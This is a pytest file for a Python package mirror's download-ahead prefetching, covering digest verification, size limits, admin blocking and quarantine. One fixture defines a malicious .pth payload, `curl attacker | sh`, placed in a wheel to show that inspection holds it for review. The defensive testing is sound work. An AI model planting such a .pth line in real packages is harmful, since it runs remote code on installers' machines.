"""Download-ahead: a client that fetched a file's PEP 658 metadata finds the file stored when it
downloads it, fetched, verified and inspected by the scheduler's process through the path a
client's first download takes (docs/performance.md, "First looks")."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from mirror.app import create_app
from mirror.db import file_rows, lookahead_rows
from mirror.policy.admission import State
from mirror.services import review
from mirror.services.backends import Backends
from mirror.storage import blob_key
from tests.support.fake_upstream import FakeFile, FakeUpstream
from tests.support.lookahead import run_lookahead

OLD = datetime.now(UTC) - timedelta(days=30)
CLEAN = "demo-1.0-py3-none-any.whl"
EVIL = "demo-1.1-py3-none-any.whl"
PAYLOAD = {"demo_evil.pth": "import os; os.system('curl attacker | sh')\n"}


def file_row(backends: Backends, filename: str):  # type: ignore[no-untyped-def]
    with backends.engine.connect() as conn:
        return file_rows.file_by_name(conn, "demo", filename)


def downloads_queued(backends: Backends) -> list[str]:
    with backends.engine.connect() as conn:
        entries = lookahead_rows.entries(conn)
    return [e.filename for e in entries if e.kind == lookahead_rows.DOWNLOAD]


def release_read_to_its_metadata(
    client: FlaskClient, fake_upstream: FakeUpstream, tmp_path: Path
) -> FakeFile:
    """demo 1.0, older than the quarantine, read as a client reads it up to its wheel's
    metadata: the download-ahead is queued."""
    fake = fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
    assert client.get("/simple/demo/").status_code == 200
    assert client.get(f"/packages/demo/{CLEAN}.metadata").status_code == 200
    return fake


def partials(backends: Backends) -> list[Path]:
    return list(backends.blobs.staging_dir().glob("*.part"))


def test_download_ahead_stores_a_verified_file_the_client_then_finds(
    backends: Backends, client: FlaskClient, fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    fake = release_read_to_its_metadata(client, fake_upstream, tmp_path)
    assert downloads_queued(backends) == [CLEAN]
    assert fake_upstream.hits(f"/files/demo/{CLEAN}") == 0  # queued, not fetched by the web
    assert run_lookahead(backends, lambda: file_row(backends, CLEAN).cached)
    assert backends.blobs.exists(blob_key(fake.sha256))
    assert file_row(backends, CLEAN).evidence["content"]["flags"] == []  # inspected
    response = client.get(f"/packages/demo/{CLEAN}")
    assert response.status_code == 200 and response.data == fake.content
    assert fake_upstream.hits(f"/files/demo/{CLEAN}") == 1  # the client's found it stored
    # Once stored, a metadata fetch queues nothing more.
    with backends.engine.begin() as conn:
        lookahead_rows.take(conn, lookahead_rows.KINDS, 100)
    assert client.get(f"/packages/demo/{CLEAN}.metadata").status_code == 200
    assert downloads_queued(backends) == []


def test_download_ahead_keeps_nothing_whose_digest_mismatches(
    backends: Backends, client: FlaskClient, fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    fake = release_read_to_its_metadata(client, fake_upstream, tmp_path)
    fake_upstream.corrupt(CLEAN)
    assert run_lookahead(backends, lambda: file_row(backends, CLEAN).state == State.REJECTED)
    assert not backends.blobs.exists(blob_key(fake.sha256))
    assert partials(backends) == []
    fake_upstream.clear_faults()
    assert client.get(f"/packages/demo/{CLEAN}").status_code == 404  # rejected stays rejected
    assert fake_upstream.hits(f"/files/demo/{CLEAN}") == 1


def test_download_ahead_holds_a_file_its_inspection_refuses(
    backends: Backends, client: FlaskClient, fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
    fake_upstream.publish_release("demo", "1.1", tmpdir=tmp_path, upload_time=OLD, pth=PAYLOAD)
    assert client.get("/simple/demo/").status_code == 200
    assert client.get(f"/packages/demo/{EVIL}.metadata").status_code == 200
    assert run_lookahead(backends, lambda: file_row(backends, EVIL).state == State.QUARANTINED)
    assert "demo_evil.pth" in file_row(backends, EVIL).reason
    response = client.get(f"/packages/demo/{EVIL}")
    assert response.status_code == 404
    assert "held for review" in response.get_data(as_text=True)


@pytest.mark.parametrize("limit", [0, False, 100])
def test_no_download_ahead_when_off_or_over_the_size_limit(
    make_backends: Callable[..., Backends],
    fake_upstream: FakeUpstream,
    tmp_path: Path,
    limit: int | bool,
) -> None:
    backends = make_backends(upstream={"download_ahead_max_bytes": limit})
    client = create_app(backends.config, backends).test_client()
    fake = fake_upstream.publish_release("demo", "1.0", tmpdir=tmp_path, upload_time=OLD)
    assert fake.size > 100
    assert client.get("/simple/demo/").status_code == 200
    assert client.get(f"/packages/demo/{CLEAN}.metadata").status_code == 200
    assert downloads_queued(backends) == []


def test_download_ahead_fetches_nothing_refused_since_it_was_queued(
    backends: Backends, client: FlaskClient, fake_upstream: FakeUpstream, tmp_path: Path
) -> None:
    release_read_to_its_metadata(client, fake_upstream, tmp_path)
    review.block(backends, "demo", "==1.0", actor="admin", reason="compromised")  # meanwhile
    assert file_row(backends, CLEAN).state == State.BLOCKED
    assert run_lookahead(backends, lambda: not downloads_queued(backends))
    assert fake_upstream.hits(f"/files/demo/{CLEAN}") == 0
